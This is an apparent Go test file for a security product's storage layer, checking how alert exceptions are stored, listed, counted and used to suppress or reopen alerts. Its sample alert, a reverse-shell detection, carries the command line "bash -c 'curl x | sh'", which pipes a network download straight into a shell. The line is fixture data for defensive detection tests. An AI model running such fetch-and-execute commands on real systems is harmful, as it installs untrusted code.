// Package exceptiontest is the part of the storage suite on exceptions and on
// the alerts that they cover.
package exceptiontest

import (
	"context"
	"errors"
	"fmt"
	"testing"
	"time"

	"github.com/holdfast-security/holdfast/event"
	"github.com/holdfast-security/holdfast/finding"
	"github.com/holdfast-security/holdfast/store"
	"github.com/holdfast-security/holdfast/store/storetest/check"
)

// All returns the tests.
func All() []check.Test {
	return []check.Test{
		{Name: "ExceptionsComeBack", Run: exceptionsComeBack},
		{Name: "ExceptionLists", Run: exceptionLists},
		{Name: "ExceptionHits", Run: exceptionHits},
		{Name: "ExceptionsAndPeople", Run: exceptionsAndPeople},
		{Name: "ExceptionsReadAlerts", Run: exceptionsReadAlerts},
	}
}

// alert returns an alert of the host h1.
func alert(id string) finding.Alert {
	return finding.Alert{
		ID: id, Type: "VM_ReverseShell", Title: "Reverse shell", Severity: finding.High, Host: "h1", Time: check.Start, Raised: check.Start,
		Count: 1, LastTime: check.Start, Rule: finding.Rule{ID: "rule-1"},
		Process: &event.Process{PID: 7, Name: "bash", CommandLine: "bash -c 'curl x | sh'"},
	}
}

func read(t *testing.T, s store.State, id string) finding.Case {
	t.Helper()
	c, err := s.Alert(t.Context(), id)
	check.OK(t, err)
	return c
}

// terms returns what may be said of an exception, all of it.
func terms(name string) finding.ExceptionTerms {
	expires := check.Start.Add(time.Hour)
	return finding.ExceptionTerms{
		Name: name, Reason: "reason of 100% " + name, Expires: &expires, Enabled: true,
		Scope: finding.ExceptionScope{
			Hosts: []event.HostID{"h1", "h1"}, Labels: map[string]string{"group": "web"}, Rules: []string{"rule-1"},
			Types: []finding.AlertType{"VM_X"}, Kinds: []string{finding.ExceptionKindAlert},
		},
		Match: []finding.Condition{{Field: finding.FieldUser, Op: finding.OpEquals, Values: []string{"root"}, Not: true}},
	}
}

func addException(t *testing.T, s store.State, id string, created time.Time, change func(*finding.ExceptionTerms)) finding.Exception {
	t.Helper()
	e := finding.Exception{ID: id, ExceptionTerms: terms(id), Author: "anna", Created: created, Version: 1}
	if change != nil {
		change(&e.ExceptionTerms)
	}
	check.OK(t, s.AddException(t.Context(), e))
	return e
}

func exceptionsComeBack(t *testing.T, s store.State) {
	ctx := t.Context()
	e := addException(t, s, "e1", check.Start, nil)
	got, err := s.Exception(ctx, "e1")
	check.OK(t, err)
	check.Same(t, got, e)
	check.Fails(t, s.AddException(ctx, e), store.ErrExists)
	_, err = s.Exception(ctx, "none")
	check.Fails(t, err, store.ErrNotFound)

	e.ExceptionTerms = finding.ExceptionTerms{Name: "other", Scope: finding.ExceptionScope{Rules: []string{"rule-2"}}, WholeRule: true}
	_, err = s.ChangeException(ctx, "e1", 2, e.ExceptionTerms)
	check.Fails(t, err, store.ErrConflict)
	got, err = s.ChangeException(ctx, "e1", 1, e.ExceptionTerms)
	check.OK(t, err)
	e.Version = 2
	check.Same(t, got, e)
	got, err = s.ChangeException(ctx, "e1", store.AnyVersion, e.ExceptionTerms)
	check.OK(t, err)
	check.Same(t, got.Version, int64(3))
	_, err = s.ChangeException(ctx, "none", store.AnyVersion, e.ExceptionTerms)
	check.Fails(t, err, store.ErrNotFound)

	check.OK(t, s.DropException(ctx, "e1"))
	check.Fails(t, s.DropException(ctx, "e1"), store.ErrNotFound)
	_, err = s.Exception(ctx, "e1")
	check.Fails(t, err, store.ErrNotFound)
	addException(t, s, "e1", check.Start, nil)
}

func exceptionLists(t *testing.T, s store.State) {
	change := map[int]func(*finding.ExceptionTerms){
		1: func(x *finding.ExceptionTerms) { x.Enabled = false },
		2: func(x *finding.ExceptionTerms) { x.Expires = nil },
		3: func(x *finding.ExceptionTerms) {
			x.Scope.Hosts, x.Scope.Rules = []event.HostID{"h2"}, []string{"rule-2"}
		},
		4: func(x *finding.ExceptionTerms) { early := check.Start; x.Expires = &early },
	}
	var all []finding.Exception
	for i := range 7 {
		all = append([]finding.Exception{addException(t, s, fmt.Sprint("e", i), check.Start.Add(time.Duration(i/2)), change[i])}, all...)
	}
	list := func(f store.ExceptionFilter) func(context.Context, store.Page) (store.List[finding.Exception], error) {
		return func(ctx context.Context, p store.Page) (store.List[finding.Exception], error) {
			return s.Exceptions(ctx, f, p)
		}
	}
	check.Same(t, check.Walk(t, 2, list(store.ExceptionFilter{})), all)
	check.RefusesCursors(t, "bnVsbA", list(store.ExceptionFilter{}))
	for _, tt := range []struct {
		name   string
		filter store.ExceptionFilter
		want   []string
	}{
		{"rule", store.ExceptionFilter{Rule: "rule-2"}, []string{"e3"}},
		{"type", store.ExceptionFilter{Type: "VM_X", Host: "h2"}, []string{"e3"}},
		{"no host", store.ExceptionFilter{Host: "h3"}, nil},
		{"text", store.ExceptionFilter{Text: "OF 100% E5"}, []string{"e5"}},
		{"no pattern", store.ExceptionFilter{Text: "of 100_ e"}, nil},
		{"author", store.ExceptionFilter{Text: "anna", Rule: "rule-2"}, []string{"e3"}},
		{"active", store.ExceptionFilter{State: store.ExceptionActive, Now: check.Start}, []string{"e6", "e5", "e3", "e2", "e0"}},
		{"active later", store.ExceptionFilter{State: store.ExceptionActive, Now: check.Start.Add(time.Hour)}, []string{"e2"}},
		{"expired", store.ExceptionFilter{State: store.ExceptionExpired, Now: check.Start}, []string{"e4"}},
		{"disabled", store.ExceptionFilter{State: store.ExceptionDisabled, Now: check.Start.Add(time.Hour)}, []string{"e1"}},
	} {
		var ids []string
		for _, e := range check.Walk(t, 3, list(tt.filter)) {
			ids = append(ids, e.ID)
		}
		if fmt.Sprint(ids) != fmt.Sprint(tt.want) {
			t.Errorf("%s: %q, want %q", tt.name, ids, tt.want)
		}
	}
}

// hiding follows alerts that are hidden, repeat, and come to light.
type hiding struct {
	*testing.T
	store.State
}

func (h hiding) save(minutes int, covered map[string]string, alerts ...finding.Alert) {
	h.Helper()
	_, err := h.SaveCoveredAlerts(h.Context(), alerts, covered, minute(minutes), store.Position{Partition: "0", Sequence: 1})
	check.OK(h.T, err)
}

func (h hiding) hits(id string, want int64, last time.Time) {
	h.Helper()
	e, err := h.Exception(h.Context(), id)
	check.OK(h.T, err)
	if e.Hits != want || (e.LastHit == nil) != last.IsZero() || e.LastHit != nil && !e.LastHit.Equal(last) {
		h.Errorf("%s has %d hits, last %v; want %d, %s", id, e.Hits, e.LastHit, want, last)
	}
}

func (h hiding) status(id string, want finding.Status, by string) {
	h.Helper()
	c := read(h.T, h.State, id)
	if c.Status != want || c.Exception != by {
		h.Errorf("%s is %s by %q, want %s by %q", id, c.Status, c.Exception, want, by)
	}
	l, err := h.Alerts(h.Context(), store.AlertFilter{Status: []finding.Status{want}, Exception: []string{by}}, "", store.Page{})
	check.OK(h.T, err)
	for _, line := range l.Items {
		if line.ID == id && line.Exception == by {
			return
		}
	}
	h.Errorf("%s is not in the list: %+v", id, l.Items)
}

func minute(n int) time.Time { return check.Start.Add(time.Duration(n) * time.Minute) }

// again is the repeat of an alert at a minute.
func again(id string, n int) finding.Alert {
	a := alert(id)
	a.Count, a.LastTime = uint32(n), minute(n)
	return a
}

func exceptionHits(t *testing.T, s store.State) {
	h := hiding{t, s}
	addException(t, s, "e1", check.Start, nil)
	addException(t, s, "e2", check.Start, nil)
	by := map[string]string{"a1": "e1", "a2": "e1"}
	h.save(1, by, alert("a1"), alert("a2"), alert("a3"))
	h.hits("e1", 2, minute(1))
	h.hits("e2", 0, time.Time{})
	h.status("a1", finding.Suppressed, "e1")
	h.status("a3", finding.Open, "")
	check.Same(t, read(t, s, "a1").Version, int64(1))

	h.save(2, by, alert("a1"), alert("a2")) // delivered again
	h.hits("e1", 2, minute(1))
	h.save(3, by, again("a1", 2)) // a repeat
	h.hits("e1", 2, minute(3))
	h.save(4, map[string]string{"a1": "e2"}, again("a1", 3)) // under another
	h.hits("e1", 2, minute(3))
	h.hits("e2", 0, minute(4))
	h.status("a1", finding.Suppressed, "e2")
	h.save(5, map[string]string{"a3": "e2"}, again("a3", 2)) // open alerts stay so
	h.hits("e2", 0, minute(4))
	h.status("a3", finding.Open, "")

	h.save(6, nil, again("a1", 4)) // nothing covers it any more
	h.status("a1", finding.Open, "")
	check.Same(t, read(t, s, "a1").Triage, finding.Triage{Status: finding.Open, Changed: minute(6), By: "server", Version: 2})
	comments, err := s.Comments(t.Context(), "a1")
	check.OK(t, err)
	if len(comments) != 1 || comments[0].Event != "opened again: no exception covers it any more" {
		t.Errorf("comments are %+v", comments)
	}
}

func exceptionsAndPeople(t *testing.T, s store.State) {
	h := hiding{t, s}
	addException(t, s, "e1", check.Start, nil)
	by := map[string]string{"a2": "e1"}
	h.save(1, by, alert("a2"))
	dismissed := finding.Dismissed
	_, err := s.ChangeAlert(t.Context(), "a2", store.AnyVersion, store.AlertChange{Status: &dismissed, By: "anna", Time: check.Start})
	check.OK(t, err)
	h.status("a2", finding.Dismissed, "")
	h.save(2, by, again("a2", 48*60)) // two days later
	h.status("a2", finding.Dismissed, "")
	h.save(3, nil, again("a2", 49*60))
	h.status("a2", finding.Open, "")

	// One that was dropped meanwhile counts nothing, and what it hides is hidden.
	check.OK(t, s.DropException(t.Context(), "e1"))
	h.save(4, map[string]string{"a9": "e1"}, alert("a9"))
	h.status("a9", finding.Suppressed, "e1")
	counts, err := s.CountAlerts(t.Context(), store.AlertFilter{}, 0)
	check.OK(t, err)
	check.Same(t, counts.ByStatus[string(finding.Suppressed)], int64(1))
}

func exceptionsReadAlerts(t *testing.T, s store.State) {
	ctx := t.Context()
	var want []finding.Alert
	for i := range 450 {
		a := alert(fmt.Sprintf("a%03d", i))
		a.LastTime = check.Start.Add(time.Duration(i) * time.Second)
		if i%2 == 1 {
			a.Rule.ID = "rule-2"
		}
		_, err := s.SaveAlerts(ctx, []finding.Alert{a}, check.Start, store.Position{})
		check.OK(t, err)
		if i%2 == 1 && i >= 3 {
			want = append([]finding.Alert{a}, want...)
		}
	}
	filter := store.AlertFilter{Rule: []string{"rule-2"}, Since: check.Start.Add(2 * time.Second), Text: "not heeded"}
	var got []finding.Alert
	check.OK(t, s.EachAlert(ctx, filter, func(c finding.Case) error {
		got = append(got, c.Alert)
		return nil
	}))
	check.Same(t, got, want)
	enough := errors.New("enough")
	n := 0
	err := s.EachAlert(ctx, filter, func(finding.Case) error {
		n++
		return enough
	})
	check.Fails(t, err, enough)
	check.Same(t, n, 1)
}
